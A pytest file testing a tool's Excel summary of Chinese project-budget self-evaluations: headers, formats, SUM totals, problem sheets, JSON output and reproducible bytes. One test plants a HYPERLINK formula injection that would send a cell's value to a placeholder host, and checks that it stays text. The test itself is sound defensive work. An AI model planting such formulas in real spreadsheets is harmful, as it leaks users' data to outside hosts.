"""`zpgen summary`: the 汇总表 workbook read back with openpyxl, its JSON lines, and its bytes."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import time
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from zpgen.builder.planner import check
from zpgen.commands.summary import summarise, workbook
from zpgen.write.libreoffice import find_libreoffice

from .conftest import ROOT, SEED_UNIT, UNIT_NAME
from .conftest import run_zpgen as zpgen

P1, P2, P3 = (
    "数据系统维护费专项资金",
    "企业离休人员第十三月基本离休费专项资金",
    "事业单位工作人员招聘考试经费专项资金",
)


def read(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new), encoding="utf-8")


def with_problems(workspace: Path) -> None:
    """Project 02 spends more than its budget (two errors, a warning); project 03 is unreadable."""
    unit = workspace / "data" / "2023" / SEED_UNIT
    edit(unit / "02-企业离休人员第十三月基本离休费.yaml", "全年执行数: 0.32", "全年执行数: 0.52")
    edit(
        unit / "03-事业单位工作人员招聘考试经费.yaml", "全年执行数: 36.49", "全年执行数: 36.49万元"
    )


def test_every_project_with_its_figures_as_the_reports_print_them(seed_workspace: Path) -> None:
    found, _space = summarise(seed_workspace)
    book = read(workbook(found))
    assert book.sheetnames == ["全部项目", UNIT_NAME, "问题"]
    sheet = book["全部项目"]
    assert sheet["A1"].value == "2023年度项目支出绩效自评汇总表"
    assert [c.value for c in sheet[2]] == [
        "年度", "单位", "项目名称", "项目类别", "年初预算数\n（万元）", "全年预算数\n（万元）",
        "全年执行数\n（万元）", "执行率", "调减/追加\n（万元）", "自评得分", "等级", "错误", "警告",
        "报告文件",
    ]  # fmt: skip
    assert [c.value for c in sheet[3]] == [
        2023, UNIT_NAME, P1, "特定类项目", 24.24, 8.56, 8.56, 1, -15.68, 90.91, "优", 0, 0, f"{P1}.docx",
    ]  # fmt: skip
    assert [sheet.cell(row, 3).value for row in (4, 5)] == [P2, P3]
    assert [sheet.cell(row, 10).value for row in (3, 4, 5)] == [90.91, 83.33, 100]
    # 万元 with two decimals, a percentage, 调减 and 追加 written out
    assert sheet["E3"].number_format == "0.00"
    assert sheet["H3"].number_format == "0.00%"
    assert sheet["I3"].number_format == '"追加"0.00;"调减"0.00;0.00'
    # the totals are formulas, so the sheet adds up after an edit
    assert sheet["C6"].value == "合计"
    assert sheet["E6"].value == "=SUM(E3:E5)"
    assert sheet["G6"].value == "=SUM(G3:G5)"
    assert sheet["H6"].value == '=IF(F6=0,"",G6/F6)'
    assert sheet["I6"].value == "=SUM(I3:I5)"
    assert sheet["L6"].value == "=SUM(L3:L5)"
    assert sheet["E6"].number_format == "0.00" and sheet["H6"].number_format == "0.00%"


def test_the_workbook_is_laid_out_for_reading_and_printing(seed_workspace: Path) -> None:
    found, _space = summarise(seed_workspace)
    book = read(workbook(found))
    sheet = book["全部项目"]
    assert sheet.freeze_panes == "D3", "the header and the project's name stay in view"
    assert sheet.auto_filter.ref == "A2:N5", "filters on the header, not over the total"
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.page_setup.paperSize == 9, "A4"
    assert sheet.page_setup.fitToWidth == 1 and sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.print_title_rows == "$1:$2"
    # wide enough for the Chinese text: 16 characters of 单位名称 wrap at 20
    widths = {c: sheet.column_dimensions[c].width for c in "ABCDEN"}
    assert widths["B"] == 22 and widths["C"] == 32 and widths["D"] >= 12
    assert widths["E"] >= 12, "room for 年初预算数 and for the total"
    unit = book[UNIT_NAME]
    assert [c.value for c in unit[2]][:3] == ["项目名称", "项目类别", "年初预算数\n（万元）"]
    assert unit["A6"].value == "合计" and unit["C6"].value == "=SUM(C3:C5)"
    assert unit.freeze_panes == "B3" and unit.auto_filter.ref == "A2:L5"
    assert book.properties.creator == "zpgen"
    assert book.properties.created.isoformat() == "2024-04-01T00:00:00", "评价时间, not the clock"


def test_text_that_starts_with_an_equals_sign_stays_text(seed_workspace: Path) -> None:
    hostile = '=HYPERLINK("http://example.invalid/?d="&E3,"数据系统维护费")'
    edit(
        seed_workspace / "data" / "2023" / SEED_UNIT / "01-数据系统维护费.yaml",
        f"项目名称: {P1}",
        f"项目名称: '{hostile}'",
    )
    book = openpyxl.load_workbook(io.BytesIO(workbook(summarise(seed_workspace)[0])))
    names = [cell for row in book["全部项目"].iter_rows() for cell in row if cell.value == hostile]
    assert names and all(cell.data_type == "s" for cell in names), "text, not a formula"
    unit = book[UNIT_NAME]
    assert unit["C6"].value == "=SUM(C3:C5)" and unit["C6"].data_type == "f", "totals: formulas"


def test_two_summaries_of_the_same_data_are_byte_identical(seed_workspace: Path) -> None:
    first = workbook(summarise(seed_workspace)[0])
    time.sleep(2.1)  # past the zip format's two-second time resolution
    assert workbook(summarise(seed_workspace)[0]) == first


def test_the_problems_are_those_check_finds(seed_workspace: Path) -> None:
    with_problems(seed_workspace)
    found, _space = summarise(seed_workspace)
    checked = check(seed_workspace)
    assert len(found.problems) == len(checked.problems) >= 3
    book = read(workbook(found))
    sheet = book["问题"]
    assert [c.value for c in sheet[1]] == ["文件", "行", "列", "键", "级别", "规则", "说明"]
    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    expected = [
        [
            str(p.file.relative_to(seed_workspace).as_posix()) if p.file else None,
            p.line or None,
            p.column or None,
            p.key or None,
            "错误" if p.severity.value == "error" else "警告",
            p.rule or None,
            p.message,
        ]
        for p in checked.problems
    ]
    assert rows == expected
    assert any(row[5] == "spent-over-budget" for row in rows)
    # each project counts its own; one that cannot be read is named by its file, without figures
    projects = book["全部项目"]
    p2 = [c.value for c in projects[4]]
    assert p2[2] == P2 and p2[6] == 0.52 and p2[11] >= 1 and p2[13] is None, "not built: no file"
    p3 = [c.value for c in projects[5]]
    assert p3[2] == "03-事业单位工作人员招聘考试经费.yaml"
    assert p3[4:10] == [None] * 6 and p3[11] >= 1


def test_a_workspace_of_several_years_has_a_sheet_per_unit_and_year(tmp_path: Path) -> None:
    workspace = tmp_path / "ws"
    shutil.copytree(ROOT / "data", workspace / "data")
    shutil.copytree(workspace / "data" / "2023", workspace / "data" / "2024")
    edit(workspace / "data" / "2024" / SEED_UNIT / "unit.yaml", "2024年4月", "2025年4月")
    found, _space = summarise(workspace)
    book = read(workbook(found))
    assert book.sheetnames == ["全部项目", f"2023{UNIT_NAME}", f"2024{UNIT_NAME}", "问题"]
    assert book["全部项目"]["A1"].value == "2023—2024年度项目支出绩效自评汇总表"
    assert book.properties.created.isoformat() == "2025-04-01T00:00:00", "the latest 评价时间"
    result = zpgen("summary", cwd=workspace)
    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines() == [
        "新建  output/汇总表.xlsx",
        "汇总了 1 个单位的 6 个项目：错误 0，警告 1。",  # one unit, of two years
    ]


def test_the_command_writes_the_workbook_once_and_prints_json_lines(seed_workspace: Path) -> None:
    result = zpgen("summary", cwd=seed_workspace)
    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines() == [
        "新建  output/2023/汇总表.xlsx",
        "汇总了 1 个单位的 3 个项目：错误 0，警告 0。",
    ]
    again = zpgen("summary", "--out", "汇总.xlsx", cwd=seed_workspace)
    assert again.stdout.splitlines()[0] == "新建  汇总.xlsx"
    assert (seed_workspace / "汇总.xlsx").read_bytes() == (
        seed_workspace / "output" / "2023" / "汇总表.xlsx"
    ).read_bytes()
    assert zpgen("summary", cwd=seed_workspace).stdout.startswith("未变  ")
    with_problems(seed_workspace)
    lines = zpgen("summary", "--format", "json", cwd=seed_workspace).stdout.splitlines()
    rows = [json.loads(line) for line in lines]
    projects = [row for row in rows if row["type"] == "project"]
    problems = [row for row in rows if row["type"] == "problem"]
    assert [row["name"] for row in projects] == [P1, P2, "03-事业单位工作人员招聘考试经费.yaml"]
    assert projects[0] == {
        "type": "project", "year": 2023, "unit": UNIT_NAME, "name": P1, "category": "特定类项目",
        "initial": 24.24, "adjusted": 8.56, "spent": 8.56, "rate": 1, "change": -15.68,
        "score": 90.91, "grade": "优", "errors": 0, "warnings": 0, "report": f"{P1}.docx",
        "file": f"data/2023/{SEED_UNIT}/01-数据系统维护费.yaml",
    }  # fmt: skip
    assert Decimal(str(projects[1]["rate"])) == Decimal("1.625")
    assert "spent-over-budget" in {p["rule"] for p in problems}
    assert set(problems[0]) == {
        "type",
        "file",
        "line",
        "column",
        "key",
        "severity",
        "rule",
        "message",
    }
    assert zpgen("summary", "nowhere", cwd=seed_workspace).returncode == 2


@pytest.mark.skipif(
    find_libreoffice(None, ROOT)[0] is None,
    reason="LibreOffice is not installed: `.ci/run` installs it",
)
def test_libreoffice_computes_the_totals(seed_workspace: Path, tmp_path: Path) -> None:
    """The formulas are real ones: a spreadsheet program opening the workbook adds them up."""
    path = tmp_path / "汇总表.xlsx"
    path.write_bytes(workbook(summarise(seed_workspace)[0]))
    program = find_libreoffice(None, ROOT)[0]
    assert program is not None
    subprocess.run(
        [str(program), f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless",
         "--convert-to", 'csv:Text - txt - csv (StarCalc):44,34,76', "--outdir", str(tmp_path), str(path)],
        capture_output=True, check=False, timeout=120,
    )  # fmt: skip
    if not (tmp_path / "汇总表.csv").exists():
        pytest.skip("LibreOffice Calc is not installed: `.ci/run` installs it")
    with (tmp_path / "汇总表.csv").open(encoding="utf-8", newline="") as stream:
        total = list(csv.reader(stream))[5]
    assert total[2] == "合计"
    assert total[4:9] == ["66.00", "45.37", "45.37", "100.00%", "调减20.63"]
